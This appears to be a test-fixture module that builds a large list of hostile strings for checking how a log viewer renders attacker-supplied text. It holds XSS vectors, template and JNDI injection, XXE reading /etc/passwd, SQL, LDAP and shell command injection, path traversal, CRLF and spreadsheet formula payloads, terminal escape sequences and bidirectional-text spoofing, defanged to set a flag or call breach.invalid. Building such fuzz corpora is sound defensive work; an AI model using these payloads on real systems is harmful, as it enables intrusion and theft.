/**
 * What attackers put into what gets logged, hoping that whoever reads the log has it run, believes it, or cannot read on. Each text says
 * what it would do if it worked: set `globalThis.breached` or call for something at breach.invalid. Built from parts, so that each trick is
 * tried behind each way out of what it stands in.
 */
const BREACH = "globalThis.breached=1";
const AWAY = "https://breach.invalid/x";

/** Ways out of an element's text, an attribute, a comment, a script, a style, a text area, a title. */
const WAYS_OUT = ["", '">', "'>", "-->", "</script>", "</style>", "</textarea>", "</title>", "]]>", "\\u0022>"];

const ELEMENTS = [
  `<script>${BREACH}</script>`,
  `<ScRiPt >${BREACH}</sCrIpT >`,
  `<script src=${AWAY}.js></script>`,
  `<script/x>${BREACH}</script\t>`,
  `<scr<script>ipt>${BREACH}</scr</script>ipt>`,
  `<img src=x onerror=${BREACH}>`,
  `<img src=x\nonerror\n=\n"${BREACH}">`,
  `<img src="${AWAY}.png">`,
  `<svg onload=${BREACH}>`,
  `<svg/onload=${BREACH}//`,
  `<svg><script>${BREACH}</script></svg>`,
  `<svg><animate onbegin=${BREACH} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${BREACH}"><text x=20 y=20>x</text></a></svg>`,
  `<body onload=${BREACH}>`,
  `<input autofocus onfocus=${BREACH}>`,
  `<select autofocus onfocus=${BREACH}><option>x</select>`,
  `<details open ontoggle=${BREACH}><summary>x</summary></details>`,
  `<video><source onerror="${BREACH}"></video>`,
  `<audio src=x onerror=${BREACH}>`,
  `<iframe src="javascript:parent.breached=1"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.breached=1&lt;/script&gt;"></iframe>`,
  `<object data="${AWAY}"></object>`,
  `<embed src="${AWAY}">`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href="https://breach.invalid/">`,
  `<form action="${AWAY}"><button>x</button></form>`,
  `<style>@import "${AWAY}.css";*{display:none}</style>`,
  `<div style="position:fixed;inset:0;background:url(${AWAY})">`,
  `<math><mtext></mtext><mglyph><style></math><img src=x onerror=${BREACH}></style></mglyph></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${BREACH}>">`,
  `<template><img src=x onerror=${BREACH}></template>`,
  `<a href="javascript:${BREACH}">click</a>`,
  `<plaintext>`,
  `<marquee onstart=${BREACH}>x</marquee>`,
  `<xss id=x tabindex=1 onfocus=${BREACH}>`,
  `<img src=x onerror=&#103;lobalThis.breached&#61;1>`,
  `&lt;script&gt;${BREACH}&lt;/script&gt;`,
  `%3Cscript%3E${BREACH}%3C%2Fscript%3E`,
  `\\u003cscript\\u003e${BREACH}\\u003c/script\\u003e`,
  `＜script＞${BREACH}＜/script＞`,
  `<\u0000script>${BREACH}</script>`,
];

const ATTRIBUTES = ['"', "'", "`", '\\"', "&quot;", "&#39;"].flatMap((quote) =>
  ["onmouseover", "onfocus", "onpointerenter", "onanimationstart"].map(
    (handler) => `x${quote} ${handler}=${BREACH} autofocus x=${quote}`,
  ),
);

const ADDRESSES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "\u0001javascript:",
  " javascript:",
  "javascript&colon;",
  "data:text/html,<script>",
  "vbscript:",
  "blob:",
].flatMap((scheme) => [
  `${scheme}${BREACH}`,
  `[click](${scheme}${BREACH})`,
  `![x](${scheme}${BREACH})`,
  `<${scheme}${BREACH}>`,
  `[x]: ${scheme}${BREACH}\n[x]`,
]);

const TEMPLATES = [
  `{{constructor.constructor('${BREACH}')()}}`,
  `{{count}}`,
  `{{- name, uppercase }}`,
  `$t(shell:frame.nav)`,
  `$t(no:such, {"count": 1})`,
  `\${${BREACH}}`,
  `<%= ${BREACH} %>`,
  `#{${BREACH}}`,
  `{%import os%}{{os.system('id')}}`,
  `</script><script>${BREACH}//`,
  `'-${BREACH}-'`,
  `";${BREACH}//`,
  `\\';${BREACH}//`,
  `);${BREACH}//`,
  `\${jndi:ldap://breach.invalid/a}`,
  "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
  "' OR '1'='1' -- ",
  "1; DROP TABLE alert; --",
  "*)(uid=*))(|(uid=*",
  "; touch /tmp/breached #",
  "$(touch /tmp/breached)",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%s%s%s%n%n%n",
  "%0d%0aSet-Cookie: breached=1",
  "\r\nSet-Cookie: breached=1\r\n\r\n<script>",
  '=HYPERLINK("https://breach.invalid/x","click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "__proto__",
  "constructor.prototype.breached",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
  "true",
  "-0",
  "9007199254740993",
  "1e999",
];

const ESC = "\u001b";
const TERMINAL = ["", "\u009b31m", `${ESC}[31m`, `${ESC}[2J${ESC}[H`, `${ESC}[8m`, `${ESC}[1000D`, `${ESC}c`].flatMap(
  (code) => [
    `${code}red${ESC}[0m`,
    `all is well\r${code}`,
    `${code}\b\b\b\b`,
    `${ESC}]8;;${AWAY}${ESC}\\link${ESC}]8;;${ESC}\\${code}`,
    `${ESC}]0;title\u0007${code}`,
    `${ESC}Pq#0;2;0;0;0${ESC}\\${code}`,
    `${ESC}]52;c;YnJlYWNo\u0007${code}`,
  ],
);

const TURNING = [..."\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"].flatMap((mark) => [
  `invoice${mark}gpj.exe`,
  `${mark}admin${mark}`,
  `${mark.repeat(200)}x`,
  `a${mark}<b>c`,
  `${mark}مرحبا${mark}nimda`,
]);
const UNSEEN = [
  ..."\u0000\u0007\u007f\u0085\u00ad\u034f\u115f\u200b\u200c\u200d\u2028\u2029\u2060\u3164\ufeff\ufff9\uffff",
].flatMap((mark) => [`ad${mark}min`, `${mark}`, `${mark.repeat(100)}root`]);
const SHAPES = [
  `Z${"\u0300\u0323\u0489".repeat(150)}algo`,
  "W".repeat(4_000),
  "ＷＩＤＥ".repeat(800),
  "字".repeat(3_000),
  "a\u00a0".repeat(1_500),
  "x\n".repeat(1_500),
  "\t".repeat(1_000),
  " ".repeat(2_000),
  "👩‍👩‍👧‍👦".repeat(300),
  "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
  "\u{1f1ef}".repeat(101),
  "﷽".repeat(200),
  "ﾊﾞﾝｶﾞﾛｰ".repeat(50),
  "e\u0301".normalize("NFD").repeat(200),
  "\ud800 alone",
  "alone \udfff",
  "\ud83d\u0000\ude00",
  "# heading\n\n---\n\n| a | b |\n|---|---|\n| <b>x</b> | y |",
  "> ".repeat(500),
  "- ".repeat(500),
  "`".repeat(999),
  "[".repeat(2_000),
  "*".repeat(2_001),
  `<!--${"-".repeat(1_000)}`,
  `{"a":${"[".repeat(900)}`,
];

/** All of them, each once. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set([
    ...ELEMENTS.flatMap((element) => WAYS_OUT.map((out) => out + element)),
    ...ATTRIBUTES,
    ...ADDRESSES,
    ...TEMPLATES,
    ...TERMINAL,
    ...TURNING,
    ...UNSEEN,
    ...SHAPES,
  ]),
];
